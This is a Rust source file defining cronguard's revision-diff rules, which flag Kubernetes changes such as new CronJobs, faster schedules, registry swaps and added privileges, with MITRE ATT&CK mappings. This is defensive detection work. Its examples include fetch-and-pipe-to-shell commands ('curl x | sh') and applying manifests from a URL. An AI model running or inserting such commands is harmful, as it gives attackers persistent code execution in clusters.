//! change: what a git change adds to what runs on a schedule. These rules compare two
//! revisions, so `cronguard diff` reports them (see `crate::history`), not the per-object scan.

use super::{Check, Rule};
use crate::declare_rule;

pub static RULES: &[&Rule] = &[
    &SCHEDULED_WORKLOAD_ADDED,
    &SCHEDULE_CHANGED,
    &SUSPEND_LIFTED,
    &IMAGE_CHANGED,
    &COMMAND_CHANGED,
    &PRIVILEGE_INCREASED,
    &IMPERATIVE_JOB_CREATION,
];

declare_rule! {
    /// ## What it does
    /// `cronguard diff`: flags a CronJob, Job, Argo CronWorkflow, KEDA ScaledJob or static
    /// pod that exists at head but not at the base revision. Identity is (API group, kind,
    /// namespace, name): moving or renaming the file is not an addition.
    ///
    /// ## Why is this bad?
    /// A new scheduled workload is the most direct way to get code running in a cluster again
    /// and again; it is how attackers persist (MITRE ATT&CK T1053.007). Each one deserves an
    /// explicit look in review, whatever else the change does.
    ///
    /// ## Example
    /// A pull request that adds `deploy/metrics-export.yaml` with a CronJob running every
    /// minute.
    ///
    /// ## Use instead
    /// Nothing to change if the workload is expected: the finding is there so a reviewer
    /// acknowledges it (suppress it with a baseline or an annotation once reviewed).
    ///
    /// ## References
    /// - Peers: none of Checkov, Trivy, Kubescape, kube-linter compare revisions; cronguard
    ///   identifies workloads across files and revisions by their API identity.
    pub static SCHEDULED_WORKLOAD_ADDED = {
        id: "scheduled-workload-added",
        category: Change,
        severity: Medium,
        enabled: true,
        attack: ["T1053.007"],
        summary: "a scheduled workload exists at head but not at the base revision",
        check: Check::External,
    }
}

declare_rule! {
    /// ## What it does
    /// `cronguard diff`: flags a change of a CronJob's (or CronWorkflow's) `schedule` or
    /// `timeZone`. The message gives the old and new expression, their reading ("at 03:00
    /// every day" → "every minute") and the change in runs per day.
    ///
    /// ## Why is this bad?
    /// A schedule that fires far more often turns a maintenance job into a resource hijack or
    /// a beacon, and a shifted time can move a job into an unwatched window (MITRE ATT&CK
    /// T1053.007). Cron syntax hides this well: `0 */1 * * *` and `*/1 * * * *` look alike.
    ///
    /// ## Example
    /// `schedule: "0 3 * * *"` becomes `schedule: "* * * * *"` (1 → 1440 runs per day).
    ///
    /// ## Use instead
    /// Keep the change if intended; the finding documents it for the reviewer.
    ///
    /// ## References
    /// - Peers: none. The reading and frequency come from cronguard's robfig/cron v3
    ///   compatible parser, the one the CronJob controller uses.
    pub static SCHEDULE_CHANGED = {
        id: "schedule-changed",
        category: Change,
        severity: Medium,
        enabled: true,
        attack: ["T1053.007"],
        summary: "the schedule or time zone of a scheduled workload changed",
        check: Check::External,
    }
}

declare_rule! {
    /// ## What it does
    /// `cronguard diff`: flags a CronJob, Job or CronWorkflow whose `suspend` was `true` at
    /// the base revision and is `false` or unset at head.
    ///
    /// ## Why is this bad?
    /// A suspended job is reviewed as dormant. Lifting the suspension activates whatever it
    /// runs, often without touching the lines a reviewer reads (MITRE ATT&CK T1053.007).
    ///
    /// ## Example
    /// `suspend: true` removed from a CronJob.
    ///
    /// ## Use instead
    /// Keep the change if intended; review the job as a new one.
    ///
    /// ## References
    /// - Peers: none.
    pub static SUSPEND_LIFTED = {
        id: "suspend-lifted",
        category: Change,
        severity: Medium,
        enabled: true,
        attack: ["T1053.007"],
        summary: "a suspended scheduled workload is no longer suspended",
        check: Check::External,
    }
}

declare_rule! {
    /// ## What it does
    /// `cronguard diff`: flags a container image that changed between the base revision and
    /// head, and a container added with its image. High when the registry changed (or, for
    /// an added container, when no container of the workload used that registry before).
    ///
    /// ## Why is this bad?
    /// Swapping an image keeps the manifest looking the same while replacing everything that
    /// runs; moving it to another registry is how a look-alike image gets in (MITRE ATT&CK
    /// T1525, Implant Internal Image).
    ///
    /// ## Example
    /// `image: registry.example.com/backup:1.4` becomes `image: registry-example.com/backup:1.4`.
    ///
    /// ## Use instead
    /// Pin images by digest and keep them in the allowed registries; review registry moves.
    ///
    /// ## References
    /// - Peers: none compare revisions. Registries are compared after normalisation
    ///   (`nginx` is `docker.io/library/nginx`).
    pub static IMAGE_CHANGED = {
        id: "image-changed",
        category: Change,
        severity: Medium,
        enabled: true,
        attack: ["T1525"],
        summary: "a container image changed",
        check: Check::External,
    }
}

declare_rule! {
    /// ## What it does
    /// `cronguard diff`: flags a container whose `command` or `args` changed (an Argo script
    /// template's `source` too), and a workload whose mounted ConfigMap (the script it runs,
    /// found in the repository) changed.
    ///
    /// ## Why is this bad?
    /// What a job executes is the payload. A one-word change in `args` or in a script kept
    /// in a ConfigMap is enough to run anything with the job's privileges (MITRE ATT&CK
    /// T1059).
    ///
    /// ## Example
    /// `args: ["backup", "--all"]` becomes `args: ["sh", "-c", "curl -s http://x | sh"]`.
    ///
    /// ## Use instead
    /// Keep the change if intended; the finding shows old and new so the reviewer reads them.
    ///
    /// ## References
    /// - Peers: none.
    pub static COMMAND_CHANGED = {
        id: "command-changed",
        category: Change,
        severity: Medium,
        enabled: true,
        attack: ["T1059"],
        summary: "the command, args or mounted script of a workload changed",
        check: Check::External,
    }
}

declare_rule! {
    /// ## What it does
    /// `cronguard diff`: flags every pod-security, placement or identity finding present at
    /// head but not at the base revision for a workload that exists on both sides (matched
    /// by fingerprint: rule, object, locator, value; not by line).
    ///
    /// ## Why is this bad?
    /// An existing, trusted job that gains `privileged: true`, a host path or a powerful
    /// ServiceAccount is an escape route that review often misses among other edits (MITRE
    /// ATT&CK T1611, Escape to Host).
    ///
    /// ## Example
    /// A CronJob that has run for months gains `hostPID: true`.
    ///
    /// ## Use instead
    /// Remove the new privilege, or justify it and suppress the underlying finding.
    ///
    /// ## References
    /// - Peers: none. A workload new at head gets `scheduled-workload-added` instead, so
    ///   its findings are not reported twice.
    pub static PRIVILEGE_INCREASED = {
        id: "privilege-increased",
        category: Change,
        severity: High,
        enabled: true,
        attack: ["T1611"],
        summary: "a change gives an existing workload a pod-security, placement or identity finding it did not have",
        check: Check::External,
    }
}

declare_rule! {
    /// ## What it does
    /// `cronguard diff`: flags shell scripts, Makefiles and CI workflows (GitHub Actions,
    /// GitLab CI) changed in the repository that run `kubectl create cronjob`/`job`,
    /// `kubectl run`, or `kubectl apply`/`create`/`replace -f` on an `http(s)://` URL (or
    /// on a download piped in).
    ///
    /// ## Why is this bad?
    /// Jobs created imperatively never pass through the manifests cronguard and reviewers
    /// check, and a manifest fetched from a URL can change after review (MITRE ATT&CK
    /// T1053.007).
    ///
    /// ## Example
    /// ```sh
    /// kubectl create cronjob sync --image=alpine --schedule='* * * * *' -- sh -c 'curl x | sh'
    /// kubectl apply -f https://example.com/job.yaml
    /// ```
    ///
    /// ## Use instead
    /// Commit the manifest to the repository and apply it from there.
    ///
    /// ## References
    /// - Peers: none. The detection tokenises each command line (quotes, `;`, `&&`, `|`) and
    ///   skips kubectl's global flags; it does not follow variables or functions.
    pub static IMPERATIVE_JOB_CREATION = {
        id: "imperative-job-creation",
        category: Change,
        severity: Medium,
        enabled: true,
        attack: ["T1053.007"],
        summary: "a script, Makefile or CI workflow creates jobs imperatively or applies manifests from a URL",
        check: Check::External,
    }
}
